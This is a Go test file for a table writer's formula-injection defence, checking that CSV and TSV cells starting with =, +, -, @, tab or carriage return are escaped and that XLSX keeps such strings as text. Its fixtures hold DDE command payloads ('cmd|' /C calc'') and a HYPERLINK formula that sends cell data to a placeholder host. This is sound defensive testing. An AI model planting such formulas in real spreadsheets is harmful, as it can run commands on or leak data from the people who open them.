package writers

import (
	"bytes"
	"fmt"
	"path/filepath"
	"testing"

	"github.com/enrich-dev/enrich/table"
	"github.com/xuri/excelize/v2"
)

func TestNeutralized(t *testing.T) {
	tests := []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://x.example/?"&A2,"click")`, `'=HYPERLINK("http://x.example/?"&A2,"click")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-", "'-"},
		{"+", "'+"},
		{"- a list item", "'- a list item"},
		// Plain numbers call nothing and would turn into text.
		{"-3", "-3"},
		{"-1.5e3", "-1.5e3"},
		{"+1.5", "+1.5"},
		{"+-1", "'+-1"},
		{"-Inf", "'-Inf"},
		// Only the first character counts, as in OWASP's advice.
		{" =1+1", " =1+1"},
		{"a=1", "a=1"},
		{"'=1", "'=1"},
	}
	for _, tt := range tests {
		if got := neutralized(tt.in); got != tt.want {
			t.Errorf("neutralized(%q): got %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestNeutralizeFormulas(t *testing.T) {
	recs := []Record{
		// Input cells are never changed, however they start.
		row(2, []string{"=1+1", "@x"}, "=HYPERLINK(\"http://x.example\",\"click\")", ""),
		row(3, []string{"-", "+"}, "-3", "+cmd|' /C calc'!A0"),
		row(4, []string{"1", "2"}, "\tx", "@here, with a comma"),
		row(5, []string{"1", "2"}, "ok", "\r\nleading line break"),
	}
	for _, tt := range []struct {
		name   string
		format table.Format
		set    bool
		want   string
	}{
		{"csv", table.CSV, true,
			"=a,-b,'=r,'@e\n" +
				"=1+1,@x,\"'=HYPERLINK(\"\"http://x.example\"\",\"\"click\"\")\",\n" +
				"-,+,-3,'+cmd|' /C calc'!A0\n" +
				"1,2,'\tx,\"'@here, with a comma\"\n" +
				"1,2,ok,\"'\r\nleading line break\"\n"},
		{"tsv", table.TSV, true,
			"=a\t-b\t'=r\t'@e\n" +
				"=1+1\t@x\t'=HYPERLINK(\"http://x.example\",\"click\")\t\n" +
				"-\t+\t-3\t'+cmd|' /C calc'!A0\n" +
				"1\t2\t'\\tx\t'@here, with a comma\n" +
				"1\t2\tok\t'\\r\\nleading line break\n"},
		{"tsv quoted", tsvQuoted, true,
			"=a\t-b\t'=r\t'@e\n" +
				"=1+1\t@x\t\"'=HYPERLINK(\"\"http://x.example\"\",\"\"click\"\")\"\t\n" +
				"-\t+\t-3\t'+cmd|' /C calc'!A0\n" +
				"1\t2\t\"'\tx\"\t'@here, with a comma\n" +
				"1\t2\tok\t\"'\r\nleading line break\"\n"},
		{"csv off by default", table.CSV, false,
			"=a,-b,=r,@e\n" +
				"=1+1,@x,\"=HYPERLINK(\"\"http://x.example\"\",\"\"click\"\")\",\n" +
				"-,+,-3,+cmd|' /C calc'!A0\n" +
				"1,2,\tx,\"@here, with a comma\"\n" +
				"1,2,ok,\"\r\nleading line break\"\n"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var buf bytes.Buffer
			// The input's column names are never changed; added ones are
			// escaped like added values.
			o := Options{Format: tt.format, Header: []string{"=a", "-b"}, Added: []string{"=r", "@e"}, NeutralizeFormulas: tt.set}
			if tt.format == tsvQuoted {
				o.Format, o.TSVQuoted = table.TSV, true
			}
			w, err := New(&buf, o)
			if err != nil {
				t.Fatal(err)
			}
			writeAll(t, w, recs)
			if got := buf.String(); got != tt.want {
				t.Errorf("got:\n%q\nwant:\n%q", got, tt.want)
			}
		})
	}
}

// tsvQuoted stands for table.TSV with Options.TSVQuoted in test tables.
const tsvQuoted table.Format = "tsv (quoted)"

// Item 5 of issue 13: -c '=cmd|…' must not put a formula in the header
// of a file written with NeutralizeFormulas.
func TestNeutralizeFormulasEscapesAddedHeaderCells(t *testing.T) {
	for _, format := range []table.Format{table.CSV, table.TSV, tsvQuoted} {
		var buf bytes.Buffer
		o := Options{Format: format, Header: []string{"=in"}, Added: []string{"=cmd|' /C calc'!A0", "+x"}, NeutralizeFormulas: true}
		if format == tsvQuoted {
			o.Format, o.TSVQuoted = table.TSV, true
		}
		w, err := New(&buf, o)
		if err != nil {
			t.Fatal(err)
		}
		writeAll(t, w, nil)
		sep := ","
		if format != table.CSV {
			sep = "\t"
		}
		if want := "=in" + sep + "'=cmd|' /C calc'!A0" + sep + "'+x\n"; buf.String() != want {
			t.Errorf("%s: got %q, want %q", format, buf.String(), want)
		}
	}
}

// TestXLSXFormulaIsText proves that XLSX output needs no neutralising: an
// answer shaped like a formula is a text cell in both XLSX writers, and
// NeutralizeFormulas leaves it as it is.
func TestXLSXFormulaIsText(t *testing.T) {
	const answer = `=HYPERLINK("http://x.example/?"&A2,"click")`
	check := func(t *testing.T, f *excelize.File, cell string) {
		t.Helper()
		kind, value := cellKind(t, f, "Sheet1", cell)
		if kind != "text" || value != answer {
			t.Errorf("%s: got %s %q, want text %q", cell, kind, value, answer)
		}
	}
	for _, neutralize := range []bool{false, true} {
		t.Run(fmt.Sprintf("new workbook, neutralize %v", neutralize), func(t *testing.T) {
			path := filepath.Join(t.TempDir(), "out.xlsx")
			w, err := Create(path, Options{Format: table.XLSX, Header: []string{"id"}, Added: []string{"r"}, NeutralizeFormulas: neutralize})
			if err != nil {
				t.Fatal(err)
			}
			rec := row(2, []string{"1"}, answer)
			rec.Kinds = []table.Kind{table.JSON} // not table.JSON: text all the same
			writeAll(t, w, []Record{rec})
			f, err := excelize.OpenFile(path)
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			check(t, f, "B2")
		})
		t.Run(fmt.Sprintf("in place, neutralize %v", neutralize), func(t *testing.T) {
			in := filepath.Join(t.TempDir(), "in.xlsx")
			book := excelize.NewFile()
			if err := book.SetSheetCol("Sheet1", "A1", &[]any{"id", "1"}); err != nil {
				t.Fatal(err)
			}
			if err := book.SaveAs(in); err != nil {
				t.Fatal(err)
			}
			book.Close()
			var buf bytes.Buffer
			w, err := New(&buf, Options{Format: table.XLSX, Source: table.Source{Format: table.XLSX, Path: in},
				Header: []string{"id"}, Added: []string{"r"}, NeutralizeFormulas: neutralize})
			if err != nil {
				t.Fatal(err)
			}
			writeAll(t, w, []Record{row(2, nil, answer)})
			f, err := excelize.OpenReader(&buf)
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			check(t, f, "B2")
		})
	}
}
